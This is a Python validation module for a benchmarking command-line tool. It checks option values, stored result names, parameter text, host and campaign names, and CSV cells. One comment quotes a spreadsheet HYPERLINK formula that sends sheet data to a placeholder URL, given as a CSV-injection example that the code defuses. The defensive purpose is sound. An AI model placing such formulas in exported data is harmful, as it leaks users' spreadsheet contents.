"""Validation at the edge: every option is checked before a run is stored.

Two layers.  The syntax of a value (plain ASCII digits, a size suffix, a
number of seconds) is checked while the command line is parsed; Python's
int() and float() would also take '４' (a full-width digit), '1_000' and
' 5', which the native driver refuses, so they are never used on raw text.
The range of a value that reaches `isob` is checked against the limits the
driver itself enforces, read from `isob --limits --json` (Limits): one
table, in src/isob.c, so the two sides cannot drift apart.  Options that
only the Python side has (--repeat, --timeout, --seconds, --seed) have their
bounds here.

Either way a bad value is one line and exit 2, before any store is touched.
"""

from __future__ import annotations

import argparse
import re
from dataclasses import dataclass
from typing import Callable, Mapping, Sequence

from ..errors import UsageError

# Bounds of the options only the Python side has.
MAX_REPEAT = 1000              # fresh processes per (benchmark, mechanism)
MAX_TIMEOUT = 7 * 24 * 3600.0  # seconds: a week per isob process is more than any run needs
MAX_CLIENT_SECONDS = 24 * 3600  # kv-server: how long the client loads each server
MAX_SEED = 2**64 - 1           # --seed of the shuffled order

_WHOLE = re.compile(r"[0-9]+")
_SECONDS = re.compile(r"(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")
_SIZE = re.compile(r"([0-9]+)([KMGkmg]?)")


def whole(text: str) -> int:
    """A whole number written in plain ASCII digits (argparse type)."""
    if not _WHOLE.fullmatch(text):
        raise argparse.ArgumentTypeError(f"{text!r} is not a whole number")
    return int(text)


def bounded_whole(low: int, high: int):
    """An argparse type: a whole number from low to high."""

    def parse(text: str) -> int:
        v = whole(text)
        if not low <= v <= high:
            raise argparse.ArgumentTypeError(f"{text!r} is not from {low} to {high}")
        return v

    return parse


def seconds(high: float):
    """An argparse type: a positive number of seconds, at most high."""

    def parse(text: str) -> float:
        if not _SECONDS.fullmatch(text) or not float(text) > 0:
            raise argparse.ArgumentTypeError(f"{text!r} is not a positive number of seconds")
        v = float(text)
        if v > high:
            raise argparse.ArgumentTypeError(f"{text!r} is more than {high:g} seconds")
        return v

    return parse


# run --target-ci: the narrowest and widest precision one may ask for
# (percent of the headline, the larger half of its 95% interval).
MIN_TARGET_CI = 0.1
MAX_TARGET_CI = 100.0


def percent(low: float, high: float):
    """An argparse type: a percentage from low to high (a trailing % is allowed)."""

    def parse(text: str) -> float:
        t = text[:-1] if text.endswith("%") else text
        if not _SECONDS.fullmatch(t):
            raise argparse.ArgumentTypeError(f"{text!r} is not a percentage (e.g. 2 or 2.5%)")
        v = float(t)
        if not low <= v <= high:
            raise argparse.ArgumentTypeError(f"{text!r} is not from {low:g}% to {high:g}%")
        return v

    return parse


def size_tokens(text: str) -> tuple[str, ...]:
    """kv data sizes as written (argparse type): byte counts in ASCII digits with
    an optional K, M or G suffix.  Their range is checked against Limits."""
    items = tuple(s.strip() for s in text.split(",") if s.strip())
    if not items:
        raise argparse.ArgumentTypeError(f"{text!r}: give at least one size, e.g. 4K,1M,256M")
    for s in items:
        if not _SIZE.fullmatch(s):
            raise argparse.ArgumentTypeError(
                f"{s!r} is not a size in bytes with an optional K, M or G (e.g. 4K, 1M, 256M)")
    return items


def human_bytes(n: int) -> str:
    for suffix, shift in (("G", 30), ("M", 20), ("K", 10)):
        if n >= 1 << shift and n % (1 << shift) == 0:
            return f"{n >> shift}{suffix}"
    return str(n)


@dataclass(frozen=True)
class Limits:
    """The bounds `isob` enforces, as `isob --limits --json` prints them."""

    counts: Mapping[str, tuple[int, int]]  # option name (no dashes) -> (min, max)
    size_min: int
    size_max: int
    size_multiple: int
    size_max_items: int
    size_suffixes: Mapping[str, int]       # "K" -> 10 (a shift)

    @classmethod
    def from_line(cls, line: Mapping) -> "Limits":
        """From the "limits" line; ValueError when it is not one."""
        try:
            opts = line["options"]
            sizes = opts["sizes"]
            counts = {name: (_int(v["min"]), _int(v["max"])) for name, v in opts.items()
                      if name not in ("sizes", "cpu", "seed")}
            return cls(counts=counts, size_min=_int(sizes["min"]), size_max=_int(sizes["max"]),
                       size_multiple=_int(sizes["multiple"]),
                       size_max_items=_int(sizes["max_items"]),
                       size_suffixes={str(k).upper(): _int(v)
                                      for k, v in dict(sizes["suffixes"]).items()})
        except (KeyError, TypeError, ValueError, AttributeError) as e:
            raise ValueError(f"not a limits line ({e!r})") from None

    def count(self, option: str, value: int | None) -> None:
        """UsageError unless value is within isob's bounds of --option."""
        if value is None:
            return
        low, high = self.counts.get(option, (1, None))
        if value < low or (high is not None and value > high):
            raise UsageError(f"argument --{option}: {value} is not a whole number from {low} to "
                             f"{high}")

    def sizes(self, items: Sequence[str] | None) -> None:
        """UsageError unless every size is one isob takes."""
        if items is None:
            return
        if len(items) > self.size_max_items:
            raise UsageError(f"argument --sizes: more than {self.size_max_items} sizes")
        for s in items:
            m = _SIZE.fullmatch(s)
            shift = self.size_suffixes.get(m[2].upper(), -1) if m and m[2] else 0
            n = int(m[1]) << shift if m and shift >= 0 else 0
            if not self.size_min <= n <= self.size_max or n % self.size_multiple:
                raise UsageError(
                    f"argument --sizes: {s!r} is not a multiple of {self.size_multiple} bytes "
                    f"from {human_bytes(self.size_min)} to {human_bytes(self.size_max)} "
                    "(e.g. 4K, 1M, 256M)")


def one_of(option: str, names: Sequence[str]):
    """An argparse type: one of `names`, exactly (ASCII, as isob compares)."""
    def parse(text: str) -> str:
        if text not in names:
            raise argparse.ArgumentTypeError(
                f"{text!r} is not a {option}: one of {', '.join(names)}")
        return text
    return parse


def _int(v) -> int:
    if not isinstance(v, int) or isinstance(v, bool):
        raise ValueError(f"{v!r} is not an integer")
    return v


def mechanisms(asked: Sequence[str]) -> list[str]:
    """The names in -m options (repeatable, comma-separated); UsageError when an
    -m names none (`-m ,` must not mean every mechanism, as no -m does)."""
    names = []
    for text in asked:
        these = [m.strip() for m in text.split(",") if m.strip()]
        if not these:
            raise UsageError(f"-m {text!r} names no mechanism (see `isobench list`)")
        names += these
    return names


# ---- stored names: what `isobench import` accepts (store/interchange.py) ----
# The names a result carries are the form isob and the runner give them
# (`isob list`: lower-case words with '-', '_', '.', '+', and ':VARIANT'
# after a name; parameter keys are identifiers).  A run imported from
# elsewhere is held to the same form, because these names end up in plot
# labels (matplotlib reads '$...$' as a formula), Markdown and HTML tables,
# LaTeX and the terminal: a name that isob could never print is refused with
# one line instead.  Free text (host names, failure reasons, the command
# line) is not refused: every output escapes it (render/kit/table.py).

RESULT_NAME = re.compile(r"[a-z0-9][a-z0-9+._-]{0,63}(?::[A-Za-z0-9+._-]{1,64})?")
PARAM_KEY = re.compile(r"[a-z_][a-z0-9_]{0,63}")
# A parameter's text value: what isob prints there includes free text (a
# reason such as kv's pmu_reason, with ';' and parentheses), so it may hold
# any printable character but the few that a table, a formula or markup
# would read (`$ < > | \ { }` and the backquote), none of the control or
# format characters (str.isprintable), at most MAX_PARAM_TEXT of them.
PARAM_TEXT_REFUSED = frozenset("$<>|\\{}`")
MAX_PARAM_TEXT = 1024
EVENT_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9_.:/=,-]{0,127}")
UNIT_NAME = re.compile(r"[A-Za-z0-9%][A-Za-z0-9%/._ -]{0,31}")
MAX_PARAM_DEPTH = 4


def stored_name_problem(kind: str, value: object) -> str | None:
    """Why value cannot be a stored benchmark, mechanism, event or unit name
    (kind says which), or None when it can."""
    if kind == "mechanism" and value == "-":  # records.NO_MECHANISM
        return None
    pattern = {"benchmark": RESULT_NAME, "mechanism": RESULT_NAME, "event": EVENT_NAME,
               "unit": UNIT_NAME, "counter": UNIT_NAME}[kind]
    if isinstance(value, str) and pattern.fullmatch(value):
        return None
    return f"{kind} {value!r} is not a name isob gives ({_form(pattern)})"


def params_problem(params: object, depth: int = 0) -> str | None:
    """Why params cannot be a result's parameters (keys identifiers, values
    numbers, booleans, null, plain-ASCII words or lists and objects of them),
    or None when they can."""
    if depth > MAX_PARAM_DEPTH:
        return "params nest too deep"
    if isinstance(params, dict):
        for k, v in params.items():
            if not (isinstance(k, str) and PARAM_KEY.fullmatch(k)):
                return f"parameter name {k!r} is not one isob gives ({_form(PARAM_KEY)})"
            why = params_problem(v, depth + 1)
            if why:
                return why if why.startswith(("parameter", "params")) else f"parameter {k}: {why}"
        return None
    if isinstance(params, list):
        return next((w for w in (params_problem(v, depth + 1) for v in params) if w), None)
    if isinstance(params, str) and not _param_text(params):
        return (f"value {params!r} is not a parameter value isob gives (printable text "
                f"without $<>|\\{{}}` or control characters, at most {MAX_PARAM_TEXT})")
    if params is None or isinstance(params, (str, bool, int, float)):
        return None
    return f"value {params!r} is not a parameter value"


def _param_text(text: str) -> bool:
    return (len(text) <= MAX_PARAM_TEXT and text.isprintable()
            and not PARAM_TEXT_REFUSED.intersection(text))


# A spreadsheet reads a CSV cell that starts with one of these as a formula
# (`=HYPERLINK("http://...?"&A1, "x")` sends the sheet's data away when
# clicked; OWASP "CSV injection").  Free text and parameter text may start
# with them (a host name, a reason, a parameter value such as "=1"), so the
# CSV outputs (store/export.py, render/paper.py) write such a cell with a
# leading "'", which a spreadsheet shows as text; a number ("-3") is left
# as it is.
SPREADSHEET_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value):
    """value as a CSV cell: text a spreadsheet would read as a formula gets a
    leading "'"; numbers, other text and anything not a string unchanged."""
    if not (isinstance(value, str) and value.startswith(SPREADSHEET_FORMULA_STARTS)):
        return value
    try:
        float(value)
        return value
    except ValueError:
        return "'" + value


def _form(pattern: re.Pattern) -> str:
    return {RESULT_NAME: "lower-case letters, digits, '-', '_', '.', '+', at most 64, "
                         "optionally ':VARIANT'",
            PARAM_KEY: "lower-case letters, digits and '_'",
            EVENT_NAME: "ASCII letters, digits and _.:/=,-",
            UNIT_NAME: "ASCII letters, digits, spaces and %/._-, at most 32"}[pattern]


# ---- campaigns (measure/campaign.py, measure/slurm.py) ----
# Names that become folder names, Ansible host patterns or words of a shell
# script are held to plain ASCII patterns, so that none can climb out of its
# folder, split a --limit or start another command.

CAMPAIGN_ID = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]{0,63}")
HOST_NAME = re.compile(r"[A-Za-z0-9_][A-Za-z0-9._-]{0,252}")
NAME_TOKEN = re.compile(r"[a-z0-9][a-z0-9_-]{0,63}")
CPU_LIST = re.compile(r"[0-9]+(?:-[0-9]+)?(?:,[0-9]+(?:-[0-9]+)?)*")
SLURM_WORD = re.compile(r"[A-Za-z0-9_.-]{1,128}")
SLURM_CONSTRAINT = re.compile(r"[A-Za-z0-9_.&|!()\[\]*,:-]{1,256}")
REMOTE_PATH = re.compile(r"(?:/|~/|~$)[\x21-\x7e]*")
MAX_HOST_TIMEOUT = 7 * 24 * 3600  # seconds: a week of measuring on one host


def _matches(pattern: re.Pattern, text: str) -> bool:
    return text.isascii() and pattern.fullmatch(text) is not None


def campaign_id(text: str) -> str:
    """A campaign id: letters, digits, '.', '_', '-', at most 64 (it names a folder)."""
    if not _matches(CAMPAIGN_ID, text) or ".." in text:
        raise argparse.ArgumentTypeError(
            f"{text!r} is not a campaign id (letters, digits, '.', '_', '-'; at most 64)")
    return text


def host_name(text: str, where: str) -> str:
    """An inventory host name that can name a folder and stand in a --limit."""
    if not _matches(HOST_NAME, text) or ".." in text:
        raise UsageError(f"{where}: host name {text!r} is not one isobench can use (letters, "
                         "digits, '.', '_', '-')")
    return text


def name_tokens(names: Sequence[str], kind: str) -> list[str]:
    """Benchmark or mechanism names checked for their form only (a campaign
    may run where no native driver is built to ask)."""
    for n in names:
        if not _matches(NAME_TOKEN, n):
            raise UsageError(f"{n!r} is not a {kind} name (see `isobench list`)")
    return list(dict.fromkeys(names))


def cpu_list(text: str, where: str) -> str:
    """A CPU list as taskset -c takes it: 0-3,6."""
    if not _matches(CPU_LIST, text):
        raise UsageError(f"{where}: isobench_cpus {text!r} is not a CPU list such as 0-3,6")
    return text


def remote_path(text: str, where: str, what: str) -> str:
    """An absolute path (or one under ~) on a host, printable ASCII without spaces."""
    if not _matches(REMOTE_PATH, text) or "/../" in text + "/":
        raise UsageError(f"{where}: {what} {text!r} is not an absolute path (or ~/...) of "
                         "printable ASCII without spaces or '..'")
    return text


def node_type(text: str) -> tuple[str, str, str | None]:
    """NAME:PARTITION[:CONSTRAINT] of `campaign slurm --node-type`."""
    name, _, rest = text.partition(":")
    partition, _, constraint = rest.partition(":")
    if not (_matches(HOST_NAME, name) and _matches(SLURM_WORD, partition)
            and (not constraint or _matches(SLURM_CONSTRAINT, constraint))):
        raise argparse.ArgumentTypeError(
            f"{text!r} is not NAME:PARTITION[:CONSTRAINT] (e.g. icelake:compute:icx)")
    return name, partition, constraint or None
SLURM_TIME = re.compile(r"(?:[0-9]{1,3}-)?[0-9]{1,3}(?::[0-9]{2}){0,2}")


# ---- the options of some benchmarks only (oslat, pingpong, delegate, sched) ----
#
# Their values are names (a confinement, a primitive, a mode) or whole numbers
# (a payload, a depth), comma-separated.  The syntax is checked while parsing;
# names are then checked against what `isob list --json` lists for each
# benchmark that takes the option, and anything that needs the benchmark to
# judge (a depth beyond the pid limit) by `isob BENCH ... --check`, all before
# a store is opened.

_NAME_ITEM = re.compile(r"[A-Za-z0-9][A-Za-z0-9+._-]*(?::[A-Za-z0-9][A-Za-z0-9+._-]*)?")

# How a benchmark lists a confinement that takes any of its variants
# ("seccomp-allow:VARIANT" among pingpong's --protect values).
ANY_VARIANT = ":VARIANT"

# --confine's word for every confinement isob lists, available here or not.
ALL = "all"

# The confinement every slowdown is measured against; it always runs.
BASELINE_CONFINEMENT = "none"


def _items(text: str, what: str) -> list[str]:
    items = [s.strip() for s in text.split(",")]
    if not text.strip() or not all(items):
        raise argparse.ArgumentTypeError(f"{text!r}: give a comma-separated list of {what}")
    return items


def name_list(text: str) -> tuple[str, ...]:
    """Names, comma-separated (argparse type): ASCII letters, digits, '-', '.',
    '+', '_', and one ':' before a variant.  Whether each exists is checked
    against the catalog (names())."""
    items = _items(text, "names")
    for s in items:
        if not _NAME_ITEM.fullmatch(s):
            raise argparse.ArgumentTypeError(
                f"{s!r} is not a name (ASCII letters, digits, '-', '.', '+', '_', "
                "and NAME:VARIANT)")
    return tuple(dict.fromkeys(items))


def number_list(text: str) -> tuple[str, ...]:
    """Whole numbers in ASCII digits, comma-separated (argparse type), kept as
    written: isob checks their range (`isob BENCH --check`)."""
    items = _items(text, "whole numbers")
    for s in items:
        whole(s)
    return tuple(dict.fromkeys(items))


def _known(kind: str, value: str, bench: str, known: Sequence[str]) -> UsageError:
    return UsageError(f"unknown {kind} {value!r} for {bench} (known: {', '.join(known)}; "
                      "see `isobench list`)")


def expand_choices(choices: Sequence[str], confinements: Sequence) -> list[str]:
    """A benchmark's listed values with "NAME:VARIANT" spelled out as every
    variant of confinement NAME."""
    out = []
    for c in choices:
        if c.endswith(ANY_VARIANT):
            name = c[:-len(ANY_VARIANT)]
            conf = next((x for x in confinements if x.name == name), None)
            out += [f"{name}:{v}" for v in (conf.variants if conf else ())]
        else:
            out.append(c)
    return out


def option_values(bench, option: str, values: Sequence[str], confinements: Sequence = ()) -> None:
    """UsageError unless every value is one `bench` (a driver.Benchmark) lists
    for `option`.  --primitive takes primitives and families; an option isob
    describes in words (a range of numbers) is left to `isob --check`."""
    if option == "--primitive" and bench.primitives:
        known = list(dict.fromkeys([p.name for p in bench.primitives] + list(bench.families)))
        kind = "primitive"
    else:
        opt = bench.option(option)
        choices = opt.choices() if opt else None
        if choices is None:
            return
        known = expand_choices(choices, confinements)
        kind = f"{option} value"
    for v in values:
        if v not in known:
            raise _known(kind, v, bench.name, known)


def confinements(asked: Sequence[str] | None, catalog) -> tuple[list[str], str]:
    """oslat's --confine items (C or C:VARIANT) and how they were chosen.

    None: every confinement available here.  "all": every confinement isob
    lists, available or not (those that are not give skipped results with
    their reason).  `none` is added first when missing: every slowdown is
    against it, from the same run."""
    listed = list(catalog.confinements)
    names = [c.name for c in listed]
    if asked is None:
        items = [c.name for c in listed if c.available]
        how = "every confinement available here"
    elif ALL in asked:
        if len(asked) > 1:
            raise UsageError(f"--confine {ALL} stands alone (it names every confinement)")
        items = names
        how = "every confinement isob lists (--confine all)"
    else:
        items = []
        for item in asked:
            name, _, variant = item.partition(":")
            conf = catalog.confinement(name)
            if conf is None:
                raise UsageError(f"unknown confinement {name!r} (known: {', '.join(names)}, "
                                 f"or {ALL}; see `isobench list`)")
            if variant and variant not in conf.variants:
                raise UsageError(f"confinement {name} has no variant {variant!r} (its "
                                 f"variants: {', '.join(conf.variants)})")
            items.append(item)
        how = "as asked (--confine)"
    if not any(i.partition(":")[0] == BASELINE_CONFINEMENT for i in items):
        items.insert(0, BASELINE_CONFINEMENT)
        if asked is not None:
            how += f", and {BASELINE_CONFINEMENT}, the baseline of every slowdown"
    return list(dict.fromkeys(items)), how


def _refused(option: str, benchmarks: Sequence[str], who: Sequence[str], what: str = "it"
             ) -> UsageError:
    """The one line that refuses an option none of `benchmarks` reads, naming
    those that do (`who`)."""
    takers = (f"; {', '.join(who)} {'do' if len(who) > 1 else 'does'}" if who else
              "; no benchmark does")
    return UsageError(f"{option}: none of the benchmarks asked for ({', '.join(benchmarks)}) "
                      f"takes {what}{takers}")


def scoped(catalog, benchmarks: Sequence[str], given: Sequence[str],
           reads: Callable[[object, str], bool]) -> None:
    """UsageError unless each option in `given` ("--sizes", "-m", ...) is read
    by at least one of `benchmarks`; reads(bench, option) says which do
    (runner.reads).  An option that would be silently ignored is refused,
    naming the benchmarks that take it."""
    asked = [b for b in map(catalog.benchmark, benchmarks) if b is not None]
    for option in given:
        if any(reads(b, option) for b in asked):
            continue
        who = [b.name for b in catalog.benchmarks if reads(b, option)]
        raise _refused(option, benchmarks, who,
                       "a mechanism" if option.startswith("-m") else "it")


def bench_options(catalog, benchmarks: Sequence[str],
                  given: Mapping[str, Sequence[str]]) -> dict[str, dict[str, tuple[str, ...]]]:
    """Per benchmark, the options of `given` ({"--depth": ("1", "4")}) that it
    takes, each value checked against what isob lists for it.  An option that
    no benchmark asked for takes is refused (isob would refuse it too), as is
    a value one of those benchmarks does not know."""
    out: dict[str, dict[str, tuple[str, ...]]] = {b: {} for b in benchmarks}
    for option, values in given.items():
        takers = [catalog.benchmark(b) for b in benchmarks]
        takers = [b for b in takers if b is not None and b.takes(option)]
        if not takers:
            raise _refused(option, benchmarks,
                           [b.name for b in catalog.benchmarks if b.takes(option)])
        for b in takers:
            if option != "--confine":
                option_values(b, option, values, catalog.confinements)
            out[b.name][option] = tuple(values)
    return out
